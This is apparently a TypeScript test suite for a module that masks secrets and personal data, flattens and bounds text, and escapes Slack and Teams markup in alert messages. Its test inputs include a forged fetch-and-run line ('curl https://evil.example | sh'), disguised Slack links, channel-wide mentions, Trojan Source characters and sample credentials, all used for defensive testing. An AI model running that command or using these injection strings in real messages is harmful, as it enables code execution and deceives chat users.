// Text from outside made safe: masking of secrets and personal data, one line, bounds, chat escaping; attack strings from the field.
import { bounded, escapeChat, maskSecrets, MEMO_MAX_CHARS, MEMO_TEXTS, oneLine, safeField, safeFieldMemoSize } from '../../../shared/report/safe-text';

describe('maskSecrets', () => {
  it.each([
    [
      'an AWS access key id in a consumer log line',
      'ERROR S3 upload failed for key AKIAIOSFODNN7EXAMPLE: SignatureDoesNotMatch',
      'ERROR S3 upload failed for key [aws key ****]: SignatureDoesNotMatch',
    ],
    ['a temporary access key id', 'credentials ASIAY34FZKBOKMUTVV7A expired', 'credentials [aws key ****] expired'],
    [
      'an AWS secret access key in an environment dump',
      'env: AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY region=us-east-1',
      'env: AWS_SECRET_ACCESS_KEY=**** region=us-east-1',
    ],
    [
      'a password in a PostgreSQL URL',
      'connect ECONNREFUSED postgres://notify_app:S3cr3t!pw@notification-service-db.abc123.us-east-1.rds.amazonaws.com:5432/notify',
      'connect ECONNREFUSED postgres://notify_app:****@notification-service-db.abc123.us-east-1.rds.amazonaws.com:5432/notify',
    ],
    [
      'a password in an ADO-style connection string',
      'Login failed: Server=db;User Id=sa;Password=P@ssw0rd;Database=notify',
      'Login failed: Server=db;User Id=sa;Password=****;Database=notify',
    ],
    ['a bearer token in a logged header', 'request headers: Authorization: Bearer abc.def-ghi_jkl123456 rejected', 'request headers: Authorization: Bearer **** rejected'],
    [
      'a JWT on its own',
      'invalid session eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U for user',
      'invalid session [jwt ****] for user',
    ],
    ['an API key in a query string', 'GET https://push.example.com/send?api_key=sk-9f8e7d6c5b4a&to=1 -> 401', 'GET https://push.example.com/send?api_key=****&to=1 -> 401'],
    ['a password field in a JSON log line', '{"level":"error","msg":"auth","password":"hunter2","user":"bob"}', '{"level":"error","msg":"auth","password":"****","user":"bob"}'],
    ['a Slack bot token', 'webhook post failed with xoxb-123456789012-abcdefghijkl', 'webhook post failed with [token ****]'],
    ['a GitHub token', 'clone failed: ghp_16C7e42F292c6912E7710c838347Ae178B4a', 'clone failed: [token ****]'],
    [
      "a subscriber's email address",
      'bounce: mailbox full for jane.doe+alerts@example.org (message 42)',
      'bounce: mailbox full for ****@example.org (message 42)',
    ],
    [
      'a private key pasted into a log',
      'loaded -----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY----- ok',
      'loaded [private key ****] ok',
    ],
  ])('masks %s', (_case, raw, expected) => {
    expect(maskSecrets(raw)).toBe(expected);
  });

  it.each([
    ['an alarm reason', 'Threshold Crossed: 1 out of the last 1 datapoints [1523.0 (25/11/26 13:59:00)] was greater than the threshold (1000.0)'],
    ['an ARN', 'arn:aws:sqs:us-east-1:123456789012:notification-service-queue'],
    ['a Node out-of-memory line', 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory'],
    ['a security-group finding', 'sg-0db allows no ingress on tcp 5432 from sg-0lambda'],
  ])('leaves %s as it is', (_case, raw) => {
    expect(maskSecrets(raw)).toBe(raw);
  });
});

describe('oneLine and bounded', () => {
  it.each([
    ['a forged email section', 'Threshold Crossed\n\nNEXT STEP: Run Evil\n  curl https://evil.example | sh', 'Threshold Crossed NEXT STEP: Run Evil curl https://evil.example | sh'],
    ['carriage returns and tabs', 'first\r\nsecond\tthird', 'first second third'],
    ['Unicode line and paragraph separators', 'a\u2028b\u2029c', 'a b c'],
    ['bidirectional overrides (Trojan Source)', 'queue\u202Eeulav\u202C ok', 'queue eulav ok'],
    ['zero-width characters and a BOM', '\ufeffad\u200bmin', 'ad min'],
    ['ANSI escape sequences', '\u001b[31mred\u001b[0m', '[31mred [0m'],
    ['C1 controls', 'a\u0085b\u009bc', 'a b c'],
  ])('makes one line of %s', (_case, raw, expected) => {
    expect(oneLine(raw)).toBe(expected);
  });

  it('cuts at the bound with an ellipsis, counting code points so an emoji is never split', () => {
    expect(bounded('abcdef', 4)).toBe('abc…');
    expect(bounded('abcd', 4)).toBe('abcd');
    const cut = bounded('🚨🚨🚨🚨🚨', 3);
    expect(cut).toBe('🚨🚨…');
    expect(Array.from(cut)).toHaveLength(3);
  });

  it('safeField masks, makes one line and bounds, in that order (a secret cut by the bound is still masked)', () => {
    const raw = `login failed\npassword=${'x'.repeat(50)} for admin@example.com`;
    const safe = safeField(raw, 40);
    expect(safe).toBe('login failed password=**** for ****@exa…');
    expect(Array.from(safe)).toHaveLength(40);
    expect(safeField(undefined, 10)).toBe('');
  });
});

describe('escapeChat', () => {
  it.each([
    ['a Slack link that disguises its target', 'see <https://evil.example/run|Run this>', 'see &lt;https://evil.example/run|Run this&gt;'],
    ['a channel-wide mention in Slack syntax', 'disk full <!channel> <!here> <!subteam^S123>', 'disk full &lt;!channel&gt; &lt;!here&gt; &lt;!subteam^S123&gt;'],
    ['a user mention', 'ping <@U024BE7LH>', 'ping &lt;@U024BE7LH&gt;'],
    ['a bare @channel and @here', 'wake up @channel and @here', 'wake up @\u2060channel and @\u2060here'],
    ['an HTML entity that would decode to markup', 'a &lt;b&gt; c & d', 'a &amp;lt;b&amp;gt; c &amp; d'],
    ['a Markdown link (Teams)', 'click [Run this](https://evil.example)', 'click [Run this] (https://evil.example)'],
    ['a backtick that would close a code span', 'name` *bold*', "name' *bold*"],
  ])('makes %s inert', (_case, raw, expected) => {
    expect(escapeChat(raw)).toBe(expected);
  });

  it('leaves no raw "<", ">" or Slack mention in any of the attack strings', () => {
    const attacks = ['<https://evil|Run this>', '<!channel>', '<!everyone>', '<#C123|general>', '<mailto:a@b.c|mail>', '@everyone'];
    for (const attack of attacks) {
      const escaped = escapeChat(attack);
      expect(escaped).not.toMatch(/[<>]/);
      expect(escaped).not.toMatch(/@(channel|here|everyone)\b/);
    }
  });
});

// Decision 112: maskSecrets skips a pattern whose required text is not in the line, and bounded returns a string no
// longer than the bound in UTF-16 units without splitting it. The reference below is the code before that change, word
// for word: every generated line must come out the same through both.
describe('maskSecrets and bounded give what they gave before their fast paths (decision 112)', () => {
  const REFERENCE_MASKS: ReadonlyArray<[RegExp, string]> = [
    [/-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)/g, '[private key ****]'],
    [/\beyJ[\w-]{4,}\.eyJ[\w-]{4,}\.[\w-]*/g, '[jwt ****]'],
    [/\b(Bearer|Basic|Token)\s+[\w\-.~+/]{8,}=*/gi, '$1 ****'],
    [/\b(?:AKIA|ASIA|ABIA|ACCA|AGPA|AIDA|AIPA|ANPA|ANVA|AROA|APKA|ASCA)[A-Z0-9]{16}\b/g, '[aws key ****]'],
    [/\b(?:xox[abposr]-[\w-]{10,}|gh[pousr]_[A-Za-z0-9]{20,}|glpat-[\w-]{20,}|[sr]k_(?:live|test)_[A-Za-z0-9]{10,}|npm_[A-Za-z0-9]{30,}|AIza[\w-]{35})\b/g, '[token ****]'],
    [/\b([a-z][a-z0-9+.-]*:\/\/[^\s:/@]*):[^\s@/]+@/gi, '$1:****@'],
    [
      /((?:["']?)\b(?:aws_secret_access_key|aws_session_token|secret_?access_?key|session_?token|client_?secret|api[_-]?key|apikey|access[_-]?token|refresh[_-]?token|auth[_-]?token|x-api-key|token|secret|password|passwd|pwd|pass)\b["']?\s*[:=]\s*["']?)([^\s"',;&}]+)/gi,
      '$1****',
    ],
    [/\b[A-Za-z0-9._%+-]+@([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,})\b/g, '****@$1'],
  ];
  const referenceMask = (text: string): string => REFERENCE_MASKS.reduce((masked, [pattern, replacement]) => masked.replace(pattern, replacement), text);
  const referenceBounded = (text: string, maxChars: number): string => {
    const chars = Array.from(text);
    return chars.length <= maxChars ? text : `${chars.slice(0, Math.max(0, maxChars - 1)).join('')}…`;
  };
  const FRAGMENTS = [
    'Threshold Crossed: 1 datapoint [1523.0] > 1000.0',
    'arn:aws:sqs:us-east-1:123456789012:notification-service-queue',
    'postgres://notify_app:S3cr3t!pw@db.example.com:5432/notify',
    'jane.doe+alerts@example.org',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig_part',
    'eyJ-not-a-token',
    '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----',
    '-----BEGIN CERTIFICATE-----',
    // A JWT whose header starts {"typ" (eyJ0eXAi…), not {"alg" (eyJhbGci…), and the private keys that are not RSA:
    // the prefilter's required text must be 'eyJ' and '-----BEGIN ', not anything longer.
    'eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI1Njc4In0.typ_sig',
    '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG\n-----END PRIVATE KEY-----',
    '-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIAbcdEFGh\n-----END EC PRIVATE KEY-----',
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----',
    'Authorization: Bearer abc.def-ghi_jkl123456',
    'AKIAIOSFODNN7EXAMPLE',
    'password=hunter2;',
    'user@host',
    'a @ sign',
    '🚨 pager',
    '\u202Eeulav\u202C',
    ' ',
    '\n',
  ];

  it('600 generated lines mask the same as the reference, whether or not they hold "@", "eyJ" or "-----BEGIN "', () => {
    let seed = 108;
    const next = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed % n;
    };
    const seen = { at: { absent: 0, present: 0 }, jwt: { absent: 0, present: 0 }, pem: { absent: 0, present: 0 }, changed: 0 };
    const kinds = ['eyJ0eXAi', '-----BEGIN PRIVATE KEY-----', '-----BEGIN EC PRIVATE KEY-----', '-----BEGIN OPENSSH PRIVATE KEY-----'];
    const linesWith = new Map(kinds.map((kind) => [kind, 0]));
    const count = (side: { absent: number; present: number }, present: boolean): void => {
      if (present) side.present += 1;
      else side.absent += 1;
    };
    for (let i = 0; i < 600; i += 1) {
      const line = Array.from({ length: 1 + next(5) }, () => FRAGMENTS[next(FRAGMENTS.length)]).join(next(2) ? ' ' : '');
      count(seen.at, line.includes('@'));
      count(seen.jwt, line.includes('eyJ'));
      count(seen.pem, line.includes('-----BEGIN '));
      for (const kind of kinds) if (line.includes(kind)) linesWith.set(kind, (linesWith.get(kind) ?? 0) + 1);
      const expected = referenceMask(line);
      if (expected !== line) seen.changed += 1;
      expect(maskSecrets(line)).toBe(expected);
      for (const bound of [1, 5, 40, 80]) expect(bounded(line, bound)).toBe(referenceBounded(line, bound));
    }
    // Both sides of every skip were generated, and most lines had something masked.
    // Both sides of every skip were generated, and most lines had something masked (exact: the generator is seeded).
    expect(seen).toEqual({ at: { absent: 326, present: 274 }, jwt: { absent: 375, present: 225 }, pem: { absent: 287, present: 313 }, changed: 466 });
    // Every JWT header and private-key kind that a longer required text would let through was generated.
    expect([...linesWith]).toEqual([
      ['eyJ0eXAi', 74],
      ['-----BEGIN PRIVATE KEY-----', 70],
      ['-----BEGIN EC PRIVATE KEY-----', 76],
      ['-----BEGIN OPENSSH PRIVATE KEY-----', 89],
    ]);
  });

  it('bounded at exactly the length in UTF-16 units, and one below, with astral characters', () => {
    const text = 'ab🚨🚨';
    expect(text.length).toBe(6);
    expect(bounded(text, 6)).toBe(text);
    expect(bounded(text, 4)).toBe(text);
    expect(bounded(text, 3)).toBe('ab…');
  });
});

describe('safeField computes a short text once per container, and gives what it gave without that (decision 308)', () => {
  const reference = (text: string, maxChars: number): string => bounded(oneLine(maskSecrets(text)), maxChars);

  it('the same text at two bounds: each bound applied to the one masked line, never the first call\'s cut', () => {
    const text = 'Authorization: Bearer abc.def-ghi_jkl123456 from\tjane.doe@example.org';
    expect(safeField(text, 10)).toBe('Authoriza…');
    expect(safeField(text, 200)).toBe('Authorization: Bearer **** from ****@example.org');
    expect(safeField(text, 10)).toBe(reference(text, 10));
    expect(safeField(undefined, 5)).toBe('');
  });

  it('texts at and past the memo\'s length are masked alike; only those up to MEMO_MAX_CHARS are kept, at most MEMO_TEXTS of them', () => {
    const secret = 'password=hunter2 ';
    const atBound = secret.padEnd(MEMO_MAX_CHARS, 'x');
    const pastBound = secret.padEnd(MEMO_MAX_CHARS + 1, 'x');
    for (let i = 0; i < MEMO_TEXTS + 40; i += 1) {
      const text = `alarm ${i}: password=p${i} in\nline`;
      expect(safeField(text, 80)).toBe(reference(text, 80));
      expect(safeField(text, 80)).toBe(`alarm ${i}: password=**** in line`);
      expect(safeFieldMemoSize()).toBeLessThanOrEqual(MEMO_TEXTS);
    }
    const before = safeFieldMemoSize();
    expect(safeField(pastBound, 40)).toBe(reference(pastBound, 40));
    expect(safeField(pastBound, 40)).toBe('password=**** xxxxxxxxxxxxxxxxxxxxxxxxx…');
    expect(safeFieldMemoSize()).toBe(before);
    expect(safeField(atBound, 40)).toBe(reference(atBound, 40));
    expect(safeFieldMemoSize()).toBe(before === MEMO_TEXTS ? 1 : before + 1);
  });
});
